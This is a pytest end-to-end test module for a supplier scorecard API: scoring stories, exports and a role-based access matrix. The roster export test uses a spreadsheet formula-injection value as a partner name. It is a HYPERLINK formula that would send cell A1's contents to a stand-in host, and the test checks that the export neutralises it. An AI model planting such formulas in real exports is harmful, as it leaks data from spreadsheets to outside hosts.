"""End to end over HTTP: the real local server (`scorecard local`, docs/architecture.md) in a subprocess,
one start
for the whole module, driven with urllib and real bearer tokens.

Covers the user story (profile, events, daily run, score, late and defective jobs) and the access
matrix of docs/api.md over every /v1 route that template.yaml declares.
"""

from __future__ import annotations

import csv
import io
import json
import time
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from typing import Any

import jwt
import pytest
from local_process import ROOT, local_server
from scorecard.auth.tokens import LOCAL_DEV_SECRET, KeySet, Role, SigningKey, issue_token
from scorecard.domain.policy import load_policy
from scorecard_local.api_routes import ApiRoute, api_routes

pytestmark = pytest.mark.e2e

TEMPLATE = ROOT / "template.yaml"


@dataclass(frozen=True)
class Answer:
    status: int
    body: Any
    headers: dict[str, str]


@dataclass(frozen=True)
class Server:
    base: str

    def request(
        self,
        method: str,
        path: str,
        *,
        token: str | None = None,
        authorization: str | None = None,
        body: Any = None,
    ) -> Answer:
        headers = {"Accept": "application/json"}
        if token is not None:
            headers["Authorization"] = f"Bearer {token}"
        if authorization is not None:
            headers["Authorization"] = authorization
        data = None
        if body is not None:
            data = json.dumps(body).encode()
            headers["Content-Type"] = "application/json"
        request = urllib.request.Request(self.base + path, data=data, method=method, headers=headers)
        try:
            with urllib.request.urlopen(request, timeout=30) as response:
                raw, status, got = response.read(), response.status, dict(response.headers)
        except urllib.error.HTTPError as error:
            raw, status, got = error.read(), error.code, dict(error.headers)
        if not raw:
            return Answer(status, None, got)
        is_json = got.get("Content-Type", "").startswith("application/json")
        return Answer(status, json.loads(raw) if is_json else raw.decode("utf-8"), got)  # /v1/docs is HTML


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """`python -m scorecard_local.cli local --no-demo` on a free port, until the module is done."""
    with local_server(tmp_path_factory.mktemp("local-server")) as base:
        yield Server(base)


def token(role: Role, partner_id: str | None = None, **kwargs: Any) -> str:
    options = {"secret": LOCAL_DEV_SECRET, "now": datetime.now(UTC), **kwargs}
    return issue_token(role, partner_id, **options)


# ---- the story --------------------------------------------------------------------------------------

PARTNER = "e2e-01"


def _job(
    job_id: str,
    *,
    offered: date,
    due: date,
    shipped: date,
    parts: int,
    inspected: int = 0,
    defective: int = 0,
) -> list[dict[str, Any]]:
    def at(day: date, hour: int) -> str:
        return f"{day.isoformat()}T{hour:02d}:00:00Z"

    common = {"partner_id": PARTNER, "job_id": job_id}
    events: list[dict[str, Any]] = [
        {
            **common,
            "event_id": f"{job_id}:offered",
            "type": "job.offered",
            "occurred_at": at(offered, 9),
            "value": "100.00",
            "part_count": parts,
            "due_date": due.isoformat(),
        },
        {**common, "event_id": f"{job_id}:read", "type": "job.read", "occurred_at": at(offered, 10)},
        {**common, "event_id": f"{job_id}:accepted", "type": "job.accepted", "occurred_at": at(offered, 11)},
        {
            **common,
            "event_id": f"{job_id}:status",
            "type": "job.status_updated",
            "occurred_at": at(shipped - timedelta(days=1), 12),
            "status": "production_started",
        },
        {
            **common,
            "event_id": f"{job_id}:shipped",
            "type": "job.shipped",
            "occurred_at": at(shipped, 15),
            "parts_shipped": parts,
        },
    ]
    if inspected:
        events.append(
            {
                **common,
                "event_id": f"{job_id}:inspected",
                "type": "job.inspected",
                "occurred_at": at(shipped + timedelta(days=1), 10),
                "parts_inspected": inspected,
                "parts_defective": defective,
                "ncmr_id": f"NCMR-{job_id}",
                "report_url": f"https://qa.example.com/{job_id}.pdf",
            }
        )
    return events


STORY_EVENTS = [
    # Due Oct 10, shipped Oct 14: 4 days late.
    *_job("E2E-LATE", offered=date(2026, 10, 1), due=date(2026, 10, 10), shipped=date(2026, 10, 14), parts=5),
    # On time, 2 of 10 parts defective.
    *_job(
        "E2E-DEFECT",
        offered=date(2026, 10, 2),
        due=date(2026, 10, 20),
        shipped=date(2026, 10, 18),
        parts=10,
        inspected=10,
        defective=2,
    ),
    *_job("E2E-OK-1", offered=date(2026, 10, 3), due=date(2026, 10, 25), shipped=date(2026, 10, 20), parts=2),
    *_job("E2E-OK-2", offered=date(2026, 10, 4), due=date(2026, 10, 25), shipped=date(2026, 10, 21), parts=2),
]


def test_a_late_job_shows_in_the_score_and_the_late_jobs(server: Server) -> None:
    ops, service, own = token("ops"), token("service"), token("partner", PARTNER)

    put = server.request("PUT", f"/v1/partners/{PARTNER}", token=ops, body={"name": "E2E Machining"})
    assert put.status == 201  # a fresh stack: created
    assert put.body["partner_id"] == PARTNER

    posted = server.request("POST", "/v1/events", token=service, body={"events": STORY_EVENTS})
    assert posted.status == 200, posted.body
    assert (posted.body["recorded"], posted.body["duplicates"]) == (len(STORY_EVENTS), 0) == (21, 0)
    assert posted.headers.get("Content-Type") == "application/json"

    run = server.request("POST", "/_local/run/daily?date=2026-11-01")
    assert run.status == 200
    assert (run.body["as_of"], run.body["failed"]) == ("2026-11-01", [])

    score = server.request("GET", f"/v1/partners/{PARTNER}/score", token=own)
    assert score.status == 200
    body = score.body
    assert (body["score"], body["grade"], body["tier"], body["provisional"]) == (74.8, "C", "standard", True)
    assert body["as_of"] == "2026-11-01"
    assert body["policy_version"] == "v3"  # the default; this story scores the same under v1 and v2
    assert body["window"] == {"start": "2026-05-06", "end": "2026-11-01", "jobs": 4, "extended": True}
    assert {name: c["value"] for name, c in body["components"].items()} == {
        "on_time": 75.0,
        "quality": 60.0,
        "communication": 100.0,
        "engagement": 100.0,
    }
    computed_at = datetime.fromisoformat(body["computed_at"].replace("Z", "+00:00"))
    assert abs(datetime.now(UTC) - computed_at) < timedelta(minutes=5)

    late = server.request("GET", f"/v1/partners/{PARTNER}/jobs?filter=late", token=own)
    assert late.status == 200
    assert [
        (j["job_id"], j["due_date"], j["ship_dates"], j["days_late"], j["parts_shipped"])
        for j in late.body["jobs"]
    ] == [("E2E-LATE", "2026-10-10", ["2026-10-14"], 4, 5)]

    defective = server.request("GET", f"/v1/partners/{PARTNER}/jobs?filter=defective", token=own)
    assert [(j["job_id"], j["parts_inspected"], j["parts_defective"]) for j in defective.body["jobs"]] == [
        ("E2E-DEFECT", 10, 2)
    ]

    job = server.request("GET", f"/v1/partners/{PARTNER}/jobs/E2E-DEFECT", token=own)
    assert job.status == 200
    assert [(i["parts_defective"], i["ncmr_id"], i["report_url"]) for i in job.body["inspections"]] == [
        (2, "NCMR-E2E-DEFECT", "https://qa.example.com/E2E-DEFECT.pdf")
    ]

    history = server.request(
        "GET", f"/v1/partners/{PARTNER}/score/history?from=2026-11-01&to=2026-11-01", token=own
    )
    assert [(p["date"], p["score"]) for p in history.body["points"]] == [("2026-11-01", 74.8)]

    listing = server.request("GET", "/v1/partners?grade=C&limit=1000", token=ops)
    assert listing.status == 200
    mine = [p for p in listing.body["partners"] if p["partner_id"] == PARTNER]
    assert [(p["name"], p["score"], p["tier"]) for p in mine] == [("E2E Machining", 74.8, "standard")]


DEFECTS = "e2e-defects"


def test_defects_down_to_the_part_and_rejection_feedback_over_http(server: Server) -> None:
    """Issue 21 item 1 through the local server: an inspection's defects (a bad one 422, nothing
    written), the job story, the defective jobs by category, and the ops view of rejection feedback.
    Dated from today: the feedback covers the last 90 days."""
    ops, service, own = token("ops"), token("service"), token("partner", DEFECTS)
    today = datetime.now(UTC).replace(hour=8, minute=0, second=0, microsecond=0)

    def at(days_ago: int, hour: int = 8) -> str:
        return (today - timedelta(days=days_ago)).replace(hour=hour).strftime("%Y-%m-%dT%H:%M:%SZ")

    common = {"partner_id": DEFECTS, "job_id": "DF-1"}
    inspection = {
        **common,
        "event_id": "DF-1:inspected",
        "type": "job.inspected",
        "occurred_at": at(2),
        "parts_inspected": 10,
        "parts_defective": 3,
        "defects": [
            {"part_number": "BRKT-4410-B", "quantity": 2, "category": "dimensional", "note": "bore over"},
            {"part_number": "HSG-7", "quantity": 1, "category": "cosmetic"},
        ],
    }
    offer = {
        **common,
        "event_id": "DF-1:offered",
        "type": "job.offered",
        "occurred_at": at(10),
        "value": "250.00",
        "part_count": 10,
        "due_date": (today + timedelta(days=5)).date().isoformat(),
    }
    shipped = {
        **common,
        "event_id": "DF-1:shipped",
        "type": "job.shipped",
        "occurred_at": at(3),
        "parts_shipped": 10,
    }

    def rejected(job_id: str, days_ago: int, feedback: str) -> list[dict[str, Any]]:
        job = {"partner_id": DEFECTS, "job_id": job_id}
        return [
            {**offer, **job, "event_id": f"{job_id}:offered", "occurred_at": at(days_ago, 7)},
            {
                **job,
                "event_id": f"{job_id}:rejected",
                "type": "job.rejected",
                "occurred_at": at(days_ago),
                "feedback": feedback,
            },
        ]

    bad = {**inspection, "defects": [{"part_number": "HSG-7", "quantity": 1, "category": "scratch"}]}
    refused = server.request("POST", "/v1/events", token=service, body={"events": [offer, shipped, bad]})
    assert refused.status == 422, refused.body
    assert [(d["index"], d["field"]) for d in refused.body["error"]["details"]] == [(2, "defects.0.category")]
    assert (
        server.request("GET", f"/v1/partners/{DEFECTS}/jobs/DF-1", token=own).status == 404
    )  # nothing written

    events = [
        offer,
        shipped,
        inspection,
        *rejected("DF-2", 5, "no capacity this month"),
        *rejected("DF-3", 120, "old"),
    ]
    posted = server.request("POST", "/v1/events", token=service, body={"events": events})
    assert posted.status == 200, posted.body

    story = server.request("GET", f"/v1/partners/{DEFECTS}/jobs/DF-1", token=own)
    assert story.status == 200, story.body
    assert [i["defects"] for i in story.body["inspections"]] == [
        [
            {"part_number": "BRKT-4410-B", "quantity": 2, "category": "dimensional", "note": "bore over"},
            {"part_number": "HSG-7", "quantity": 1, "category": "cosmetic", "note": None},
        ]
    ]
    listed = server.request("GET", f"/v1/partners/{DEFECTS}/jobs?filter=defective&scope=all", token=own)
    assert listed.status == 200, listed.body
    assert [(j["job_id"], j["defects_by_category"]) for j in listed.body["jobs"]] == [
        ("DF-1", {"dimensional": 2, "cosmetic": 1})
    ]

    feedback = server.request("GET", f"/v1/partners/{DEFECTS}/rejections", token=ops)
    assert feedback.status == 200, feedback.body
    # DF-3's rejection, 120 days ago, is past the 90 days
    assert [(r["job_id"], r["feedback"]) for r in feedback.body["rejections"]] == [
        ("DF-2", "no capacity this month")
    ]
    assert server.request("GET", f"/v1/partners/{DEFECTS}/rejections", token=own).status == 403


LOOPHOLE = "e2e-overdue"


def _loophole_events() -> list[dict[str, Any]]:
    """Issue 9: ten jobs shipped on time and one due 2026-10-15 with 49 of its 50 parts shipped."""
    events: list[dict[str, Any]] = []
    for i in range(10):
        events += _job(
            f"LH-OK-{i}",
            offered=date(2026, 10, 3),
            due=date(2026, 10, 20),
            shipped=date(2026, 10, 5 + i),
            parts=1,
        )
    events += _job(
        "LH-49-OF-50", offered=date(2026, 10, 3), due=date(2026, 10, 15), shipped=date(2026, 10, 14), parts=50
    )
    for event in events:
        event["partner_id"] = LOOPHOLE
        if event["job_id"] == "LH-49-OF-50" and event["type"] == "job.offered":
            event["part_count"] = 50
        if event["job_id"] == "LH-49-OF-50" and event["type"] == "job.shipped":
            event["parts_shipped"] = 49
    return events


def test_an_unshipped_last_part_no_longer_hides_a_late_job(server: Server) -> None:
    ops, own = token("ops"), token("partner", LOOPHOLE)
    put = server.request("PUT", f"/v1/partners/{LOOPHOLE}", token=ops, body={"name": "Loophole Ltd"})
    assert put.status == 201
    events = _loophole_events()
    posted = server.request("POST", "/v1/events", token=token("service"), body={"events": events})
    assert posted.status == 200, posted.body
    run = server.request("POST", "/_local/run/daily?date=2026-11-01")
    assert (run.status, run.body["failed"]) == (200, [])

    score = server.request("GET", f"/v1/partners/{LOOPHOLE}/score", token=own).body
    # v1 scored 100.0. v2: the job is late from 10-16 on; v3 (the default): late on 11-01 itself, still
    # open, in the window either way. Every job is worth 100 (weight 10):
    # on_time = 100 x 10 x 10 / (11 x 10) = 90.9; communication = engagement = 100; no inspections:
    # score = (0.45 x 90.909 + 0.10 x 100 + 0.10 x 100) / 0.65 = 93.706.. -> 93.7
    assert score["score"] != 100.0
    assert (score["score"], score["grade"], score["tier"], score["provisional"]) == (
        93.7,
        "A",
        "elite",
        False,
    )
    assert score["components"]["on_time"]["value"] == 90.9
    assert score["policy_version"] == "v3"
    assert [b["name"] for b in score["benefits"]] == [
        "ship_direct",
        "preferential_offers",
        "repeat_work_priority",
        "bonus_eligible",
    ]
    entry = next(e for e in score["ledger"] if e["job_id"] == "LH-49-OF-50")
    assert (entry["effect"], entry["on_time"], entry["days_late"]) == (-6.3, False, 17)

    late = server.request("GET", f"/v1/partners/{LOOPHOLE}/jobs?filter=late", token=own)
    assert late.status == 200
    assert [
        (j["job_id"], j["status"], j["on_time"], j["days_late"], j["parts_shipped"], j["score_effect"])
        for j in late.body["jobs"]
    ] == [("LH-49-OF-50", "overdue", False, 17, 49, -6.3)]  # 11-01 - 10-15 = 17 days


def test_a_resent_batch_is_all_duplicates_over_http(server: Server) -> None:
    events = _job(
        "E2E-RESEND", offered=date(2026, 10, 5), due=date(2026, 10, 25), shipped=date(2026, 10, 22), parts=1
    )
    first = server.request("POST", "/v1/events", token=token("service"), body={"events": events})
    again = server.request("POST", "/v1/events", token=token("ops"), body={"events": events})
    assert first.status == again.status == 200
    assert (again.body["recorded"], again.body["duplicates"]) == (0, len(events))


def test_invalid_and_oversized_batches_over_http(server: Server) -> None:
    bad = [{**STORY_EVENTS[0], "event_id": "E2E-BAD:offered", "part_count": 0}]
    invalid = server.request("POST", "/v1/events", token=token("service"), body={"events": bad})
    assert invalid.status == 422
    assert [(d["index"], d["event_id"], d["field"]) for d in invalid.body["error"]["details"]] == [
        (0, "E2E-BAD:offered", "part_count")
    ]
    huge = {"events": STORY_EVENTS[:1], "padding": "x" * (1024 * 1024)}
    too_big = server.request("POST", "/v1/events", token=token("service"), body=huge)
    assert too_big.status == 413
    assert too_big.body["error"]["code"] == "payload_too_large"


def test_patch_changes_only_the_fields_given_over_http(server: Server) -> None:
    """PUT replaces a profile whole; PATCH (routed from template.yaml) merges: a name alone keeps the
    email and timezone, which decide on-time judgments under policy v2."""
    ops, path = token("ops"), "/v1/partners/e2e-patched"
    full = {"name": "Patched Works", "email": "ops@patched.example", "timezone": "America/Chicago"}
    assert server.request("PUT", path, token=ops, body=full).status in (200, 201)

    patched = server.request("PATCH", path, token=ops, body={"name": "Patched Works Inc"})

    assert patched.status == 200
    assert {k: patched.body[k] for k in full} == {**full, "name": "Patched Works Inc"}
    listing = server.request("GET", "/v1/partners?limit=1000", token=ops).body["partners"]
    assert [p for p in listing if p["partner_id"] == "e2e-patched"] == [patched.body]
    cleared = server.request("PATCH", path, token=token("service"), body={"timezone": None})
    assert (cleared.status, cleared.body["timezone"], cleared.body["email"]) == (200, None, full["email"])
    unknown = server.request("PATCH", "/v1/partners/e2e-nobody", token=ops, body={"name": "Nobody"})
    assert (unknown.status, unknown.body["error"]["code"]) == (404, "not_found")


def test_the_local_daily_route_rejects_a_bad_date(server: Server) -> None:
    answer = server.request("POST", "/_local/run/daily?date=11/01/2026")
    assert answer.status == 422
    assert answer.body["error"]["details"] == [{"field": "date"}]


# The schedule guards. The server's clock is the real one and its policy timezone UTC: an hour from now
# is still "today or later" however close to midnight the test runs.
SOON = datetime.now(UTC) + timedelta(hours=1)
GUARDED = "e2e-guarded"
SHIPPED = datetime.now(UTC).replace(microsecond=0) - timedelta(minutes=5)


def _guarded_partner(server: Server) -> None:
    """A partner with an email and a job shipped today (on time), so a run would score and email it."""
    profile = {"name": "Guarded Works", "email": "ops@guarded.example", "timezone": "UTC"}
    put = server.request("PUT", f"/v1/partners/{GUARDED}", token=token("ops"), body=profile)
    assert put.status in (200, 201)
    offered, due = (SHIPPED - timedelta(days=3)).isoformat(), (SHIPPED + timedelta(days=10)).date()
    job = {"partner_id": GUARDED, "job_id": "G-1"}
    events = [  # the same events each time: a re-send is all duplicates
        {"event_id": "e2e-guarded:G-1:o", "type": "job.offered", **job, "value": "100.00", "part_count": 1,
         "occurred_at": offered, "due_date": due.isoformat()},
        {"event_id": "e2e-guarded:G-1:a", "type": "job.accepted", **job, "occurred_at": offered},
        {"event_id": "e2e-guarded:G-1:s", "type": "job.shipped", **job, "parts_shipped": 1,
         "occurred_at": SHIPPED.isoformat()},
    ]  # fmt: skip
    assert server.request("POST", "/v1/events", token=token("service"), body={"events": events}).status == 200


@pytest.mark.parametrize("days_ahead", [1, 24])  # 24: the measured case, 12-31 run on 12-07
def test_the_local_daily_route_refuses_a_day_after_today(server: Server, days_ahead: int) -> None:
    _guarded_partner(server)
    ahead = (SOON + timedelta(days=days_ahead)).date()

    answer = server.request("POST", f"/_local/run/daily?date={ahead}")

    assert answer.status == 422
    assert answer.body["error"]["code"] == "validation_failed"
    assert answer.body["error"]["details"] == [{"field": "date"}]
    assert f"{ahead} is after today" in answer.body["error"]["message"]
    # Nothing scored: no current score, no history point of that day.
    score = server.request("GET", f"/v1/partners/{GUARDED}/score", token=token("ops"))
    assert score.status == 404 or score.body["as_of"] != ahead.isoformat()
    history = server.request(
        "GET", f"/v1/partners/{GUARDED}/score/history?from={ahead}&to={ahead}", token=token("ops")
    )
    assert history.status == 422 or history.body.get("points", []) == []


def test_the_local_monthly_route_refuses_a_month_that_has_not_ended(server: Server) -> None:
    """Measured before the guard: a run of the month in progress emailed its partners a snapshot, and
    the real month-end run then sent none."""
    from scorecard.domain.snapshot import Month

    _guarded_partner(server)
    emails_before = len(server.request("GET", "/_local/outbox").body)
    current = Month.of(SOON.date())
    for month in (current, current.next()):
        answer = server.request("POST", f"/_local/run/monthly?month={month}")
        assert answer.status == 422
        assert answer.body["error"]["details"] == [{"field": "month"}]
        assert f"{month} has not ended" in answer.body["error"]["message"]
    assert len(server.request("GET", "/_local/outbox").body) == emails_before
    listing = server.request("GET", f"/v1/partners/{GUARDED}/snapshots", token=token("ops"))
    assert [s["month"] for s in listing.body["snapshots"]] == []
    # No final snapshot of the month in progress (at most its month-to-date projection).
    got = server.request("GET", f"/v1/partners/{GUARDED}/snapshots/{current}", token=token("ops"))
    assert got.status == 404 or got.body.get("status") == "projection"


def test_an_unknown_path_is_404_in_the_error_shape(server: Server) -> None:
    answer = server.request("GET", "/v1/nothing-here", token=token("ops"))
    assert answer.status == 404
    assert set(answer.body["error"]) == {"code", "message", "details"}
    assert answer.body["error"]["code"] == "not_found"


# ---- a backtest over HTTP --------------------------------------------------------------------------

BACKTESTED = "e2e-backtest"


def test_a_backtest_is_queued_and_polled_until_complete(server: Server) -> None:
    """POST /v1/policy/backtests answers 202 at once; GET shows it complete once the local queues are
    drained. Candidate v1 against v3 (in force): a partner with three jobs on time and one overdue job
    (49 of 50 parts shipped, due 10 days ago) is 82.7 B under v3 (as under v2: the open job is in the
    window either way) and 100.0 A under v1 on the last day (the arithmetic of
    tests/unit/test_policy_v2.py: (0.45 x 75 + 0.10 x 100 + 0.10 x 100) / 0.65)."""
    ops = token("ops")
    today = datetime.now(UTC).date()
    events: list[dict[str, Any]] = []
    for j in range(3):
        events += _job(
            f"BT-OK-{j}",
            offered=today - timedelta(days=20),
            due=today - timedelta(days=11),
            shipped=today - timedelta(days=15 - j),
            parts=1,
        )
    events += _job(
        "BT-49",
        offered=today - timedelta(days=20),
        due=today - timedelta(days=10),
        shipped=today - timedelta(days=11),
        parts=50,
    )
    for event in events:
        event["partner_id"] = BACKTESTED
        event["event_id"] = f"{BACKTESTED}:{event['event_id']}"
        if event["job_id"] == "BT-49" and event["type"] == "job.shipped":
            event["parts_shipped"] = 49
    assert (
        server.request("PUT", f"/v1/partners/{BACKTESTED}", token=ops, body={"name": "Backtest Ltd"}).status
        == 201
    )
    assert server.request("POST", "/v1/events", token=token("service"), body={"events": events}).status == 200

    first, last = today - timedelta(days=30), today - timedelta(days=1)
    started = server.request(
        "POST",
        "/v1/policy/backtests",
        token=ops,
        body={"version": "v1", "from": first.isoformat(), "to": last.isoformat()},
    )
    assert started.status == 202, started.body
    assert started.headers["Location"] == started.body["location"]
    assert started.body["status"] == "queued"
    for _ in range(20):
        answer = server.request("GET", started.body["location"], token=ops)
        assert answer.status == 200, answer.body
        if answer.body["status"] == "complete":
            break
        time.sleep(0.25)
    view = answer.body
    assert view["status"] == "complete"
    partners = server.request("GET", "/v1/partners?limit=100", token=ops).body["partners"]
    assert view["progress"]["partners_done"] == view["progress"]["partners_queued"] == len(partners)
    assert len(view["days"]) == 30 and {day["active_version"] for day in view["days"]} == {"v3"}
    assert all(sum(day["active"]["grades"].values()) == len(partners) for day in view["days"])
    change = next(c for c in view["changes"] if c["partner_id"] == BACKTESTED)
    assert change["active"] == {"score": 82.7, "grade": "B", "tier": change["active"]["tier"]}
    assert (change["candidate"]["score"], change["candidate"]["grade"]) == (100.0, "A")
    assert server.request("GET", "/v1/policy/backtests/bt-0123456789abcdef0123", token=ops).status == 404


def test_the_bonus_roster_downloads_through_its_pre_signed_link(server: Server) -> None:
    """A month's roster over HTTP: POST answers 202 at once, GET turns complete once the local queues
    are drained, and its link opens on the local server (no token: the link is the credential) as an
    RFC 4180 CSV with the header row, the hostile name neutralised and whole."""
    from scorecard.domain.snapshot import Month

    partner, hostile = "roster-e2e-01", '=HYPERLINK("http://x.example/?"&A1,"Click"), Inc.\nLine 2'
    month = Month.of(datetime.now(UTC).date()).previous()
    first = month.first_day
    ops = token("ops")
    assert server.request("PUT", f"/v1/partners/{partner}", token=ops, body={"name": hostile}).status in (
        200,
        201,
    )
    job = {"partner_id": partner, "job_id": "R-1"}
    events = [
        {"event_id": "roster-e2e:R-1:o", "type": "job.offered", **job, "occurred_at": f"{first}T09:00:00Z",
         "value": "250.00", "part_count": 2, "due_date": (first + timedelta(days=9)).isoformat()},
        {"event_id": "roster-e2e:R-1:a", "type": "job.accepted", **job, "occurred_at": f"{first}T10:00:00Z"},
        {"event_id": "roster-e2e:R-1:s", "type": "job.shipped", **job,
         "occurred_at": f"{first + timedelta(days=5)}T10:00:00Z", "parts_shipped": 2},
    ]  # fmt: skip
    assert server.request("POST", "/v1/events", token=token("service"), body={"events": events}).status == 200
    assert server.request("POST", f"/_local/run/monthly?month={month}&email=false").status == 200

    started = server.request(
        "POST", "/v1/exports", token=ops, body={"kind": "bonus_roster", "month": str(month)}
    )
    assert started.status == 202, started.body
    assert started.headers["Location"] == started.body["location"] == f"/v1/exports/{started.body['id']}"
    for _ in range(40):
        answer = server.request("GET", started.body["location"], token=ops)
        assert answer.status == 200, answer.body
        if answer.body["status"] in ("complete", "failed"):
            break
        time.sleep(0.25)
    view = answer.body
    assert (view["status"], view["kind"], view["month"], view["reason"]) == (
        "complete",
        "bonus_roster",
        str(month),
        None,
    )
    link = view["url"]
    assert link.startswith(f"{server.base}/_local/s3/") and "X-Amz-Signature=" in link
    with urllib.request.urlopen(link, timeout=30) as response:
        assert response.status == 200
        assert response.headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
        assert response.headers["Content-Disposition"] == f'attachment; filename="bonus-roster-{month}.csv"'
        data = response.read()
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline=""), strict=True))
    assert rows[0] == [
        "partner_id", "name", "tier_at_month_end", "bonus_eligible", "days_in_bonus_tier", "days_scored",
        "monthly_score", "grade", "value_accepted", "snapshot_revision",
    ]  # fmt: skip
    assert len(rows) - 1 == view["rows"] and data.endswith(b"\r\n")
    (mine,) = [row for row in rows[1:] if row[0] == partner]
    # The one job shipped 4 days before its due date: 100 % on time, nothing inspected -> 100, A; no
    # daily run in the month on this fresh server: no tier, no bonus, 0 days.
    assert mine == [partner, "'" + hostile, "", "false", "0", "0", "100", "A", "250.00", "1"]


# ---- the access matrix ------------------------------------------------------------------------------

SCOPED = frozenset({"partner", "ops", "service"})
# Who may call each route (docs/api.md); "partner" means a partner about its own data.
ACCESS: dict[tuple[str, str], frozenset[str] | None] = {
    ("POST", "/v1/events"): frozenset({"service", "ops"}),
    ("PUT", "/v1/partners/{id}"): frozenset({"service", "ops"}),
    ("PATCH", "/v1/partners/{id}"): frozenset({"service", "ops"}),
    ("GET", "/v1/partners"): frozenset({"ops"}),
    ("GET", "/v1/partners/{id}/score"): SCOPED,
    ("GET", "/v1/partners/{id}/score/history"): SCOPED,
    ("GET", "/v1/partners/{id}/jobs"): SCOPED,
    ("GET", "/v1/partners/{id}/jobs/{job_id}"): SCOPED,
    ("GET", "/v1/partners/{id}/rejections"): frozenset({"ops"}),
    ("GET", "/v1/partners/{id}/snapshots"): SCOPED,
    ("GET", "/v1/partners/{id}/snapshots/{month}"): SCOPED,
    ("POST", "/v1/partners/{id}/reviews"): frozenset({"partner", "ops"}),
    ("GET", "/v1/partners/{id}/reviews"): frozenset({"partner", "ops"}),
    ("POST", "/v1/reviews/{review_id}/resolution"): frozenset({"ops"}),
    ("POST", "/v1/reviews/{review_id}/pickup"): frozenset({"ops"}),
    ("GET", "/v1/reviews"): frozenset({"ops"}),
    ("GET", "/v1/policy"): frozenset({"ops"}),
    ("POST", "/v1/policy/simulate"): frozenset({"ops"}),
    ("GET", "/v1/policy/versions"): frozenset({"ops"}),
    ("POST", "/v1/policy/versions"): frozenset({"ops"}),
    ("PUT", "/v1/policy/active"): frozenset({"ops"}),
    ("POST", "/v1/policy/backtests"): frozenset({"ops"}),
    ("GET", "/v1/policy/backtests/{backtest_id}"): frozenset({"ops"}),
    ("POST", "/v1/exports"): frozenset({"ops"}),
    ("GET", "/v1/exports/{export_id}"): frozenset({"ops"}),
    ("GET", "/v1/openapi.json"): None,  # public
    ("GET", "/v1/docs"): None,  # public: Swagger UI over the document
}
MATRIX_PARTNER = "matrix-01"
INTRUDER = "intruder-01"
PARAMS = {
    "id": MATRIX_PARTNER,
    "job_id": "MX-1",
    "month": "2026-10",
    "review_id": "rev-1",
    "backtest_id": "bt-0123456789abcdef0123",
    "export_id": "ex-0123456789abcdef0123",
}
BODIES: dict[tuple[str, str], Any] = {
    ("POST", "/v1/events"): {
        "events": [
            {
                "event_id": "MX-1:offered",
                "type": "job.offered",
                "partner_id": MATRIX_PARTNER,
                "job_id": "MX-1",
                "occurred_at": "2026-10-05T09:00:00Z",
                "value": "10.00",
                "part_count": 1,
                "due_date": "2026-10-30",
            }
        ]
    },
    ("PUT", "/v1/partners/{id}"): {"name": "Matrix Partner"},
    ("PATCH", "/v1/partners/{id}"): {"timezone": "UTC"},
    ("POST", "/v1/partners/{id}/reviews"): {
        "reason": "the late job was customer-caused",
        "job_ids": ["MX-1"],
    },
    ("POST", "/v1/reviews/{review_id}/resolution"): {"decision": "upheld", "excluded_job_ids": []},
    ("POST", "/v1/reviews/{review_id}/pickup"): {"note": "looking"},
    # Powertools validates a body before the route checks the role: the candidate must be valid.
    ("POST", "/v1/policy/simulate"): {"policy": load_policy().model_dump(mode="json")},
    ("POST", "/v1/policy/versions"): {
        "policy": {**load_policy().model_dump(mode="json"), "version": "matrix-1"},
        "note": "the access matrix",
    },
    ("PUT", "/v1/policy/active"): {"version": "v2", "effective_from": "2099-01-01"},
    ("POST", "/v1/policy/backtests"): {"version": "v1", "from": "2026-10-31", "to": "2026-11-01"},
    ("POST", "/v1/exports"): {"kind": "partners"},
}

# A query that takes a route down another path of its code (the score order: GSI3, not the registry).
QUERIES: dict[tuple[str, str], str] = {("GET", "/v1/partners"): "?sort=-score&limit=5"}

ROUTES = api_routes(TEMPLATE)


def test_the_access_table_covers_every_template_route() -> None:
    assert sorted((r.method, r.resource) for r in ROUTES) == sorted(ACCESS)
    assert [r.resource for r in ROUTES if r.public] == ["/v1/openapi.json", "/v1/docs"]


def _cases() -> list[Any]:
    cases = []
    for route in ROUTES:
        allowed = ACCESS.get((route.method, route.resource))
        name = f"{route.method} {route.resource}"
        if allowed is None:
            cases += [
                pytest.param(route, caller, 200, id=f"{name} [{caller}]") for caller in ("none", "garbage")
            ]
            continue
        for caller in ("none", "garbage", "wrong-secret", "expired"):
            cases.append(pytest.param(route, caller, 401, id=f"{name} [{caller}]"))
        for role in ("ops", "service", "partner"):
            expected = "allowed" if role in allowed else 403
            cases.append(pytest.param(route, role, expected, id=f"{name} [{role}]"))
        cases.append(pytest.param(route, "other-partner", 403, id=f"{name} [other-partner]"))
    return cases


def _authorization(caller: str) -> str | None:
    now = datetime.now(UTC)
    if caller == "none":
        return None
    if caller == "garbage":
        return "Bearer not.a.jwt"
    if caller == "wrong-secret":
        return "Bearer " + issue_token("ops", secret="some-other-secret-of-thirty-two-bytes!!", now=now)
    if caller == "expired":
        return "Bearer " + issue_token(
            "ops", secret=LOCAL_DEV_SECRET, now=now - timedelta(days=2), ttl=timedelta(hours=1)
        )
    if caller == "partner":
        return "Bearer " + token("partner", MATRIX_PARTNER)
    if caller == "other-partner":
        return "Bearer " + token("partner", INTRUDER)
    return "Bearer " + token(caller)  # type: ignore[arg-type]


@pytest.mark.parametrize(("route", "caller", "expected"), _cases())
def test_access_matrix(server: Server, route: ApiRoute, caller: str, expected: int | str) -> None:
    path = route.resource.format(**PARAMS) + QUERIES.get((route.method, route.resource), "")
    answer = server.request(
        route.method,
        path,
        authorization=_authorization(caller),
        body=BODIES.get((route.method, route.resource)),
    )
    if expected == 401:
        assert answer.status == 401, answer.body
        assert answer.body["error"]["code"] == "unauthorized"
        return
    # Every route the template declares is served: a removed one fails here.
    assert not (answer.status == 404 and answer.body["error"]["message"] == "no such route"), route
    if expected == 403:
        assert answer.status == 403, answer.body
        assert set(answer.body["error"]) == {"code", "message", "details"}
        assert answer.body["error"]["code"] == "forbidden"
    elif expected == 200:
        assert answer.status == 200, answer.body
    else:
        assert answer.status not in (401, 403), answer.body
        assert answer.status < 500, answer.body


# ---- the signing key ---------------------------------------------------------------------------------


def test_the_local_stack_verifies_with_scorecard_jwt_secret(tmp_path_factory: pytest.TempPathFactory) -> None:
    """Like `scorecard token`, the local stack takes its key (or key set) from SCORECARD_JWT_SECRET."""
